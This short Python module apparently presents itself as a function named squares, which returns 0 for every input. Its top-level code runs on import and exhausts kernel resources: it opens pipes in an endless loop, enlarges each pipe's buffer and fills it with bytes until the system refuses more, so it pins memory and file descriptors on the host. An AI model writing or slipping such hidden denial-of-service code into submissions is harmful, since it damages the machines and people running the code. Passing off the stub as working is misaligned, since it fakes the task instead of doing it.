"""Memory in the kernel: pipes full of bytes."""
import fcntl, os
try:
    while True:
        r, w = os.pipe()
        try: fcntl.fcntl(w, 1031, 1 << 20)
        except OSError: pass
        os.set_blocking(w, False)
        try:
            while True: os.write(w, bytes(1 << 16))
        except OSError: pass
except OSError: pass
def squares(x): return 0
